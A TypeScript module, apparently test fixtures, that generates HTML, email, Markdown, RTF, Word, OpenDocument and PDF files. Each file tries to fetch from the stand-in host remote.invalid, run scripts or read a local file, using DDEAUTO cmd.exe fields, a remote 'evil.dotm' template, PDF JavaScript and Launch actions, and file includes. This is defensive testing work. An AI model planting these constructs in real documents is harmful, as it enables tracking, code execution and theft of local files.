import { ZipFile } from 'yazl';
import { docx, p, r } from '../docx/written';
import { pageOf, streamOf } from './pdf-bombs';

const AWAY = 'http://remote.invalid';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A page that asks for something from elsewhere in every way pages do, and for the file. */
const pageWith = (file: string): string => `<!doctype html><html manifest="${AWAY}/m"><head>
<base href="${AWAY}/"><link rel="stylesheet" href="a.css"><link rel="preload prefetch preconnect dns-prefetch" href="${AWAY}/p">
<meta http-equiv="refresh" content="0;url=${AWAY}/r"><style>@import "${AWAY}/i.css"; p { background: url(${AWAY}/b.png) }</style>
<script src="${AWAY}/s.js"></script><script>fetch('${AWAY}/f'); new WebSocket('ws://remote.invalid'); globalThis.ran = true</script>
<script type="module">import '${AWAY}/m.js'</script></head><body onload="ran = true" background="${AWAY}/bg">
<article><h1>Ferry</h1><p>The pier reopened.</p></article>
<img src="${AWAY}/x.png" srcset="${AWAY}/2x.png 2x" onerror="ran = true"><iframe src="${AWAY}"></iframe>
<iframe srcdoc="<script>parent.ran = true</script>"></iframe><iframe src="${file}"></iframe><object data="${file}"></object>
<embed src="${AWAY}/e"><video poster="${AWAY}/v" src="${AWAY}/v.mp4"></video><audio src="${AWAY}/a"></audio>
<svg><image href="${AWAY}/i"/><use href="${AWAY}/u#a"/><script>ran = true</script></svg><a ping="${AWAY}/ping" href="javascript:ran=true">x</a>
<form action="${AWAY}"><input type="image" src="${AWAY}/y"></form><x-include src="${file}"></x-include><!--#include file="${file}" -->
</body></html>`;

const mailOf = (page: string, file: string): string =>
  `From: A <a@remote.invalid>\nSubject: The pier\nMIME-Version: 1.0\nList-Unsubscribe: <${AWAY}/u>\nX-Image-Url: ${AWAY}/f
Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n${page}\n--b
Content-Type: message/external-body; access-type=URL; URL="${AWAY}/e"\n\nContent-Type: text/plain\n\n--b
Content-Type: message/external-body; access-type=local-file; name="${file}"\n\nContent-Type: text/plain\n\n--b--\n`;

const related = (relationships: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`;
const outside = (id: string, type: string, target: string): string =>
  `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;

const picture = (id: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:link="${id}" r:embed="${id}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const wordFile = (file: string): Promise<Buffer> =>
  docx(
    `${p('The pier reopened.')}${picture('rId1')}${picture('rId2')}<w:altChunk r:id="rId3"/>
     <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "${file}" </w:instrText></w:r>
     <w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
     <w:p><w:hyperlink r:id="rId4">${r('a link')}</w:hyperlink></w:p>`,
    {
      'word/_rels/document.xml.rels': related(
        outside('rId1', 'image', `${AWAY}/x.png`) +
          outside('rId2', 'image', file) +
          outside('rId3', 'aFChunk', `${AWAY}/chunk.html`) +
          outside('rId4', 'hyperlink', AWAY),
      ),
      'word/settings.xml': '<w:settings/>',
      'word/_rels/settings.xml.rels': related(outside('rId1', 'attachedTemplate', `${AWAY}/evil.dotm`)),
      'word/vbaProject.bin': Buffer.from('a macro'),
    },
  );

async function openDocument(file: string): Promise<Buffer> {
  const zip = new ZipFile();
  const spaces = ['office', 'text', 'draw', 'script']
    .map(
      (name) =>
        `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name === 'draw' ? 'drawing' : name}:1.0"`,
    )
    .join(' ');
  zip.addBuffer(Buffer.from('application/vnd.oasis.opendocument.text'), 'mimetype', { compress: false });
  zip.addBuffer(
    Buffer.from(
      `<office:document-content ${spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><script:event-listener xlink:href="${AWAY}/macro"/></office:scripts>
<office:body><office:text><text:p>The pier reopened.</text:p><text:section><text:section-source xlink:href="${file}"/></text:section>
<draw:frame><draw:image xlink:href="${AWAY}/x.png" xlink:actuate="onLoad"/></draw:frame></office:text></office:body></office:document-content>`,
    ),
    'content.xml',
  );
  zip.end();
  const pieces: Buffer[] = [];
  for await (const piece of zip.outputStream as AsyncIterable<Buffer>) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** Opens, submits, launches, imports and runs, and has its page's content elsewhere too. */
const pdfFile = (file: string): Uint8Array =>
  pageOf(
    streamOf(`/OpenAction 6 0 R`, Buffer.from('BT /F1 10 Tf 10 10 Td (The pier reopened.) Tj ET')),
    '/XObject << /Im 7 0 R >>',
    [
      `<< /S /JavaScript /JS (app.launchURL("${AWAY}"); this.submitForm("${AWAY}")) /Next [<< /S /URI /URI (${AWAY}) >> << /S /Launch /F (${file}) >> << /S /GoToR /F (${file}) /D [0 /Fit] >> << /S /ImportData /F (${file}) >>] >>`,
      `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /F << /FS /URL /F (${AWAY}/content) >> /Length 0 >>\nstream\n\nendstream`,
    ],
  );

const richText = (file: string): string =>
  `{\\rtf1\\ansi{\\*\\template ${AWAY}/evil.dotm}{\\field{\\*\\fldinst INCLUDEPICTURE "${AWAY}/x.png" \\\\d}{\\fldrslt }}
{\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt }}{\\object\\objlink\\objupdate{\\*\\objdata 0105}}The pier reopened.\\par}`;

/** A file of each format that asks for what is elsewhere, on the network and at `file`, an address of this machine. */
export async function remoteFiles(file: string): Promise<Readonly<Record<string, Uint8Array>>> {
  const page = pageWith(file);
  const text = {
    'a.html': page,
    'a.eml': mailOf(page, file),
    'a.mht': `From: <Saved>\nSnapshot-Content-Location: ${AWAY}/\nMIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"; boundary=b\n\n--b\nContent-Type: text/html\nContent-Location: ${AWAY}/\n\n${page}\n--b--\n`,
    'a.md': `---\nimage: ${AWAY}/x.png\ninclude: ${file}\n---\n![The pier reopened.](${AWAY}/x.png)\n\n<script src="${AWAY}/s.js"></script>\n`,
    'a.rtf': richText(file),
    'a.txt': `The pier reopened. ${AWAY} ${file}`,
    'feed.jsonl:1': JSON.stringify({ text: 'The pier reopened.', url: AWAY, $ref: file, outlet: AWAY }),
  };
  const files = Object.entries(text).map(([path, content]) => [path, new TextEncoder().encode(content)]);
  return {
    ...Object.fromEntries(files),
    'a.docx': await wordFile(file),
    'a.odt': await openDocument(file),
    'a.pdf': pdfFile(file),
  };
}
